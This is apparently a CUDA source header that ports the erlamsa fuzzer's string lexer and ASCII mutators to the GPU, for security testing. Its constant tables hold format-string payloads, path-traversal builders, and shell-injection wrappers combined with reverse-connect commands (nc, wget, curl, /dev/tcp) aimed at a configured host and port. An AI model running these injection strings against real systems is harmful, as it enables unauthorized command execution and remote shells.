// erlamsa_b200 -- ASCII string mutators on the device: erlamsa_strlex (reference
// src/erlamsa_strlex.erl:46-156) and the text mutations built on it (reference
// src/erlamsa_mutations.erl:436-651: `ab` construct_ascii_bad_mutator, `ad` construct_ascii_delimeter_mutator).
//
// The lexer is a sequential automaton (texty runs >= 6, quote pairing with backslash skipping); its events are found
// 32 positions at a time in bit masks built once per block (lex_masks / lex_device below). Every chunk it produces is a
// CONTIGUOUS range of the input, so the chunk list is just a table of (type, start) in temp memory; the mutation of one
// chunk becomes an edit script.
#pragma once
#include "eb_state.cuh"

namespace eb {

enum { CH_BYTE = 0, CH_TEXT = 1, CH_DELIM = 2 };
struct ChunkEnt { uint32_t start; uint32_t type; };

EB_DEV bool texty(uint32_t b) {   // :46-52
    if (b < 9) return false;
    if (b > 126) return false;
    if (b > 31) return true;
    return b == 9 || b == 10 || b == 13;
}

// ---- lex/1 :75-143, event driven.
// The reference's automaton has three states -- outside (raw bytes until six texty bytes in a row start, texty_enough/2 :54-64),
// text (until a quote or a non-texty byte, step_text :95-107) and delimited (until the closing quote, a non-texty byte or a
// backslash, step_delimited :114-143) -- and in each of them nothing happens until the next byte of one small class. So the
// block is classified ONCE, 128 bytes per warp step, into four bit masks (one bit per position), and the automaton then hops
// from event to event with a find-next-set-bit over a 1024-position register window per mask:
//   E   the next six positions (cut at the block's end) are all texty            -> outside: where text starts
//   MT  not texty, or a quote                                                     -> text: where it ends / a string opens
//   MD1 / MD2  the double / single quote, not texty, or a backslash               -> delimited
// Between events the bytes are never looked at; the chunk list comes out exactly as the byte-by-byte walk gives it.
struct LexMasks { const uint32_t* E; const uint32_t* MT; const uint32_t* MD1; const uint32_t* MD2; uint32_t nw; };

EB_DEV bool lex_masks(CaseCtx& c, const uint8_t* d, uint32_t n, LexMasks& m) {
    const uint32_t nw = (n + 31) >> 5;
    uint32_t* base = (uint32_t*)temp_alloc(c, (uint64_t)(5 * (nw + 1)) * 4);
    if (!base) return false;
    uint32_t* T = base; uint32_t* E = base + (nw + 1); uint32_t* MT = E + (nw + 1); uint32_t* M1 = MT + (nw + 1); uint32_t* M2 = M1 + (nw + 1);
    const int l = lane_id();
    for (uint32_t w0 = 0; w0 < nw; w0 += 4) {
        uint32_t b[4];
#pragma unroll
        for (int j = 0; j < 4; j++) { uint32_t q = (w0 + (uint32_t)j) * 32 + (uint32_t)l; b[j] = q < n ? (uint32_t)d[q] : 0x100u; }
#pragma unroll
        for (int j = 0; j < 4; j++) {
            uint32_t v = b[j];
            bool inb = v < 0x100u;
            bool t = (v >= 32 && v <= 126) || v == 9 || v == 10 || v == 13;
            uint32_t tw = __ballot_sync(0xffffffffu, t || !inb);          // past the end counts as texty (texty_enough on a short tail)
            uint32_t nt = __ballot_sync(0xffffffffu, inb && !t);
            uint32_t qd = __ballot_sync(0xffffffffu, v == 34), qs = __ballot_sync(0xffffffffu, v == 39), bs = __ballot_sync(0xffffffffu, v == 92);
            if (l == j && w0 + (uint32_t)j < nw) { uint32_t w = w0 + (uint32_t)j; T[w] = tw; MT[w] = nt | qd | qs; M1[w] = qd | nt | bs; M2[w] = qs | nt | bs; }
        }
    }
    if (l == 0) { T[nw] = 0xffffffffu; E[nw] = 0; MT[nw] = 0; M1[nw] = 0; M2[nw] = 0; }
    __syncwarp();
    for (uint32_t w = (uint32_t)l; w < nw; w += 32) {
        uint64_t x = (uint64_t)T[w] | ((uint64_t)T[w + 1] << 32);
        uint64_t e = x & (x >> 1) & (x >> 2) & (x >> 3) & (x >> 4) & (x >> 5);
        uint32_t valid = (w + 1) * 32 <= n ? 0xffffffffu : ((1u << (n & 31)) - 1u);
        E[w] = (uint32_t)e & valid;
    }
    __syncwarp();
    m.E = E; m.MT = MT; m.MD1 = M1; m.MD2 = M2; m.nw = nw;
    return true;
}

// forward-only cursor over one mask: lane l holds word base + l
struct LexWin {
    const uint32_t* M; uint32_t nw; uint32_t base; uint32_t v;
    __device__ __forceinline__ void init(const uint32_t* mask, uint32_t words) { M = mask; nw = words; base = 0xffffffffu; v = 0; }
    // first set position >= p, or n
    __device__ __forceinline__ uint32_t next(uint32_t p, uint32_t n) {
        if (p >= n) return n;
        const int l = lane_id();
        uint32_t w = p >> 5;
        for (;;) {
            if (base == 0xffffffffu || w < base || w >= base + 32) { base = w; uint32_t idx = base + (uint32_t)l; v = idx < nw ? M[idx] : 0u; }
            uint32_t x = v;
            uint32_t idx = base + (uint32_t)l;
            if (idx < (p >> 5)) x = 0; else if (idx == (p >> 5)) x &= 0xffffffffu << (p & 31);
            uint32_t bal = __ballot_sync(0xffffffffu, x != 0);
            if (bal) { int src = __ffs(bal) - 1; uint32_t xx = __shfl_sync(0xffffffffu, x, src); return (base + (uint32_t)src) * 32 + (uint32_t)__ffs(xx) - 1; }
            w = base + 32;
            if (w >= nw) return n;
        }
    }
};

// tab == nullptr: count only. Returns the number of chunks; *stringy = any non-byte chunk.
EB_DEV uint32_t lex_device(const LexMasks& m, const uint8_t* d, uint32_t n, ChunkEnt* tab, bool* stringy) {
    uint32_t cnt = 0; bool str = false;
    auto emit = [&](uint32_t type, uint32_t start) {
        if (tab && lane_id() == 0) { tab[cnt].start = start; tab[cnt].type = type; }
        cnt++; if (type != CH_BYTE) str = true;
    };
    LexWin we, wt, w1, w2; we.init(m.E, m.nw); wt.init(m.MT, m.nw); w1.init(m.MD1, m.nw); w2.init(m.MD2, m.nw);
    uint32_t p = 0;
    while (p < n) {
        uint32_t p2 = we.next(p, n);                       // outside: raw bytes up to the start of a texty run
        if (p2 > p) emit(CH_BYTE, p);
        if (p2 >= n) break;
        const uint32_t seen_start = p2;
        uint32_t x = wt.next(p2, n);                       // step_text :95-107
        if (x >= n) { emit(CH_TEXT, seen_start); break; }
        uint32_t h = d[x];
        if (h != 34 && h != 39) { emit(CH_TEXT, seen_start); p = x; continue; }       // a non-texty byte ends the text
        const uint32_t q = x; p = x + 1;                   // step_delimited :114-143
        for (;;) {
            uint32_t y = h == 34 ? w1.next(p, n) : w2.next(p, n);
            if (y >= n) { emit(CH_TEXT, seen_start); p = n; break; }                  // never closed: seen ++ quote ++ after, one text chunk
            uint32_t cc = d[y];
            if (cc == h) { if (q > seen_start) emit(CH_TEXT, seen_start); emit(CH_DELIM, q); p = y + 1; break; }
            if (cc == 92) {
                if (y + 1 >= n) { p = y + 1; continue; }
                p = texty(d[y + 1]) ? y + 2 : y + 1; continue;
            }
            emit(CH_TEXT, seen_start); p = y; break;                                  // a non-texty byte inside the string
        }
    }
    *stringy = str;
    __syncwarp();
    return cnt;
}

// chunk table of the string lexer in temp memory (entry L is the end sentinel). nullptr: no memory (the case is flagged) or,
// with stringy == false, nothing but raw bytes in the block (no table is built then)
EB_DEV ChunkEnt* lex_table(CaseCtx& c, const uint8_t* p, uint32_t n, uint32_t& L, bool& stringy) {
    LexMasks m; L = 0; stringy = false;
    if (!lex_masks(c, p, n, m)) { stringy = true; return nullptr; }
    L = lex_device(m, p, n, nullptr, &stringy);
    if (!stringy) return nullptr;
    ChunkEnt* tab = (ChunkEnt*)temp_alloc(c, (uint64_t)(L + 1) * sizeof(ChunkEnt));
    if (!tab) return nullptr;
    lex_device(m, p, n, tab, &stringy);
    if (lane_id() == 0) { tab[L].start = n; tab[L].type = CH_BYTE; }
    __syncwarp();
    return tab;
}

// small literal builder in scratch (lane 0 writes)
struct Lit { uint8_t* p; uint32_t n; uint32_t cap; };
EB_DEV void lit_put(Lit& l, uint32_t b) { if (l.n < l.cap) { if (lane_id() == 0) l.p[l.n] = (uint8_t)b; } l.n++; }
EB_DEV void lit_puts(Lit& l, const char* s) { while (*s) { lit_put(l, (uint8_t)*s); s++; } }
EB_DEV void lit_putn(Lit& l, const char* s, uint32_t k) { for (uint32_t i = 0; i < k; i++) lit_put(l, (uint8_t)s[i]); }
EB_DEV void lit_putint(Lit& l, int v) {
    char tmp[12]; int k = 0; if (v < 0) { lit_put(l, '-'); v = -v; }
    do { tmp[k++] = (char)('0' + v % 10); v /= 10; } while (v);
    while (k) lit_put(l, (uint8_t)tmp[--k]);
}

// silly_strings/0 :445-447 (12 entries; [0] is a single NUL byte)
__device__ const char c_silly[12][9] = {"%n", "%n", "%s", "%d", "%p", "%#x", "\0", "aaaa%d%n", "\n", "\r", "\t", "\b"};
__device__ const uint8_t c_silly_len[12] = {2, 2, 2, 2, 2, 3, 1, 8, 1, 1, 1, 1};
// delimeters/0 :450-452
__device__ const uint8_t c_delims[21] = {39, 34, 39, 34, 39, 34, '&', ':', '|', ';', 92, 10, 13, 9, ' ', '`', 0, ']', '[', '>', '<'};
// shellinjects/0 :454-459 and revconnects/0 :461-466 (~s / ~p format directives)
__device__ const char c_inj[10][12] = {"';~s;'", "\";~s;\"", ";~s;", "|~s#", "^ ~s ^", "& ~s &", "&& ~s &&", "|| ~s ||", "%0D~s%0D", "`~s`"};
__device__ const char c_rev[7][32] = {"calc.exe & notepad.exe ~s ~p ", "nc ~s ~p", "wget http://~s:~p", "curl ~s ~p",
                                      "exec 3<>/dev/tcp/~s/~p", "sleep 100000 # ~s ~p ", "echo>/tmp/erlamsa.~s.~p"};

// random_badness/0 :469-477: N = rand(20)+1 picks, each PREPENDED -> written back to front
EB_DEV bool random_badness(CaseCtx& c, Seg& out) {
    Rng& g = c.rng;
    uint32_t k = (uint32_t)g.rand(20) + 1;
    uint8_t* buf = scratch_alloc(c, 160);
    if (!buf) return false;
    uint32_t pos = 160;
    for (uint32_t i = 0; i < k; i++) {
        int e = (int)g.rand_elem_idx(12); uint32_t l = c_silly_len[e];
        pos -= l;
        if (lane_id() == 0) for (uint32_t j = 0; j < l; j++) buf[pos + j] = (uint8_t)c_silly[e][j];
    }
    __syncwarp();
    out = seg_copy(buf + pos, 160 - pos);
    return true;
}
EB_DEV uint32_t rand_as_count(Rng& g) {   // :486-501
    const uint32_t t[10] = {127, 128, 255, 256, 16383, 16384, 32767, 32768, 65535, 65536};
    uint32_t type = (uint32_t)g.rand(11);
    return type < 10 ? t[type] : (uint32_t)g.rand(1024);
}
EB_DEV bool insert_traversal(CaseCtx& c, uint32_t symb, Seg& out) {   // :509-511
    uint32_t k = (uint32_t)c.rng.erand(10);
    uint8_t* buf = scratch_alloc(c, 32);
    if (!buf) return false;
    Lit l; l.p = buf; l.n = 0; l.cap = 32;
    lit_put(l, symb);
    for (uint32_t i = 0; i < k; i++) { lit_put(l, '.'); lit_put(l, '.'); lit_put(l, symb); }
    __syncwarp();
    out = seg_copy(buf, l.n); return true;
}
EB_DEV bool buildrevconnect(CaseCtx& c, Seg& out) {   // :517-522
    int ii = (int)c.rng.rand_elem_idx(10), ri = (int)c.rng.rand_elem_idx(7);
    uint8_t* buf = scratch_alloc(c, 192);
    if (!buf) return false;
    Lit l; l.p = buf; l.n = 0; l.cap = 192;
    const char* inj = c_inj[ii];
    for (int i = 0; inj[i]; i++) {
        if (inj[i] == '~' && inj[i + 1] == 's') {
            const char* rev = c_rev[ri];
            for (int j = 0; rev[j]; j++) {
                if (rev[j] == '~' && rev[j + 1] == 's') { for (int q = 0; q < 64 && c.bp->ssrf_host[q]; q++) lit_put(l, (uint8_t)c.bp->ssrf_host[q]); j++; }
                else if (rev[j] == '~' && rev[j + 1] == 'p') { lit_putint(l, c.bp->ssrf_port); j++; }
                else lit_put(l, (uint8_t)rev[j]);
            }
            i++;
        } else lit_put(l, (uint8_t)inj[i]);
    }
    __syncwarp();
    out = seg_copy(buf, l.n < l.cap ? l.n : l.cap); return true;
}

enum { TM_INSERT_BADNESS = 0, TM_REPLACE_BADNESS, TM_INSERT_TRAVERSAL, TM_INSERT_AAAS, TM_INSERT_NULL, TM_INSERT_DELIMETER, TM_INSERT_SHELLINJ };

// mutate_text/2 :524-563 on the text t[0,n); pushes the mutated text to tseg
EB_DEV void mutate_text(CaseCtx& c, int m, const uint8_t* t, uint32_t n) {
    WarpState* ws = c.ws; Rng& g = c.rng; Seg lit;
    switch (m) {
    case TM_INSERT_BADNESS: {
        if (n == 0) { if (random_badness(c, lit)) t_push(ws, lit); return; }
        uint32_t p = (uint32_t)g.erand(n);
        if (!random_badness(c, lit)) return;
        t_push(ws, seg_copy(t, p - 1)); t_push(ws, lit); t_push(ws, seg_copy(t + p - 1, n - (p - 1))); return;
    }
    case TM_REPLACE_BADNESS: {
        if (n == 0) { if (random_badness(c, lit)) t_push(ws, lit); return; }
        uint32_t p = (uint32_t)g.erand(n);
        if (!random_badness(c, lit)) return;
        uint32_t tail = n - p;   // overwrite/2 keeps the new list's elements, then whatever is left of Bad
        t_push(ws, seg_copy(t, p - 1)); t_push(ws, seg_copy(t + p, tail));
        if (lit.len > tail) { Seg r = lit; r.src += tail; r.len -= tail; t_push(ws, r); }
        return;
    }
    case TM_INSERT_AAAS: {
        if (n == 0) { t_push(ws, seg_fill('a', rand_as_count(g))); return; }
        uint32_t cnt = rand_as_count(g); uint32_t p = (uint32_t)g.erand(n);
        t_push(ws, seg_copy(t, p - 1)); t_push(ws, seg_fill('a', cnt)); t_push(ws, seg_copy(t + p, n - p)); return;
    }
    case TM_INSERT_TRAVERSAL: {
        if (n == 0) { if (insert_traversal(c, '/', lit)) t_push(ws, lit); return; }
        uint32_t p = (uint32_t)g.erand(n);
        uint32_t symb = g.rand_elem_idx(2) == 0 ? 92u : 47u;
        if (!insert_traversal(c, symb, lit)) return;
        t_push(ws, seg_copy(t, p - 1)); t_push(ws, lit); t_push(ws, seg_copy(t + p, n - p)); return;
    }
    case TM_INSERT_NULL: t_push(ws, seg_copy(t, n)); t_push(ws, seg_inline(0, 1)); return;
    case TM_INSERT_DELIMETER: {
        if (n == 0) { t_push(ws, seg_inline(c_delims[g.rand_elem_idx(21)], 1)); return; }
        uint32_t p = (uint32_t)g.erand(n); uint32_t dl = c_delims[g.rand_elem_idx(21)];
        t_push(ws, seg_copy(t, p - 1)); t_push(ws, seg_inline(dl, 1)); t_push(ws, seg_copy(t + p - 1, n - (p - 1))); return;
    }
    default: {   // TM_INSERT_SHELLINJ
        if (n == 0) { t_push(ws, seg_inline(c_delims[g.rand_elem_idx(21)], 1)); return; }
        uint32_t p = (uint32_t)g.erand(n);
        if (!buildrevconnect(c, lit)) return;
        t_push(ws, seg_copy(t, p - 1)); t_push(ws, lit); t_push(ws, seg_copy(t + p - 1, n - (p - 1))); return;
    }
    }
}

// construct_ascii_mutator :586-603 with string_generic_mutate :570-583 (ab) / string_delimeter_mutate :626-644 (ad)
EB_DEV void mut_ascii(CaseCtx& c, int id, const uint8_t* p, uint32_t n, MutResult& r) {
    WarpState* ws = c.ws; Rng& g = c.rng;
    r.rechunk = 0; r.consumed_next = 0;
    bool stringy = false; uint32_t L = 0;
    ChunkEnt* tab = lex_table(c, p, n, L, stringy);
    if (!stringy) { r.kind = RES_SAME; r.delta = -1; return; }
    if (!tab) { r.kind = RES_SAME; r.delta = 0; return; }
    t_reset(ws);
    bool done = false;
    for (uint32_t rr = 0; !((double)rr > (double)L / 4.0); rr++) {
        uint32_t pi = (uint32_t)g.erand(L) - 1;
        uint32_t type = tab[pi].type;
        if (type == CH_BYTE) continue;
        uint32_t cs = tab[pi].start, ce = tab[pi + 1].start;
        t_push(ws, seg_copy(p, cs));
        if (id == M_AB) {
            const int five[5] = {TM_INSERT_BADNESS, TM_REPLACE_BADNESS, TM_INSERT_TRAVERSAL, TM_INSERT_AAAS, TM_INSERT_NULL};
            int m = five[g.rand_elem_idx(5)];
            if (type == CH_TEXT) mutate_text(c, m, p + cs, ce - cs);
            else { t_push(ws, seg_copy(p + cs, 1)); mutate_text(c, m, p + cs + 1, ce - cs - 2); t_push(ws, seg_copy(p + ce - 1, 1)); }
        } else {
            if (type == CH_TEXT) {
                int m = g.rand_elem_idx(4) == 3 ? TM_INSERT_SHELLINJ : TM_INSERT_DELIMETER;
                (void)g.rand_elem_idx(1);   // mutate_text_data picks from the one-element list
                mutate_text(c, m, p + cs, ce - cs);
            } else {   // drop_delimeter/2 :615-622
                uint32_t k = (uint32_t)g.rand(4);
                if (k == 0) t_push(ws, seg_copy(p + cs, ce - cs - 1));            // left + body
                else if (k == 1) t_push(ws, seg_copy(p + cs + 1, ce - cs - 1));   // body + right
                else if (k == 2) t_push(ws, seg_copy(p + cs + 1, ce - cs - 2));   // body
                else t_push(ws, seg_copy(p + cs, ce - cs));
            }
        }
        t_push(ws, seg_copy(p + ce, n - ce));
        done = true; break;
    }
    if (!done) t_push(ws, seg_copy(p, n));
    r.delta = g.rand_delta();
    r.kind = RES_SEGS;
}

}  // namespace eb
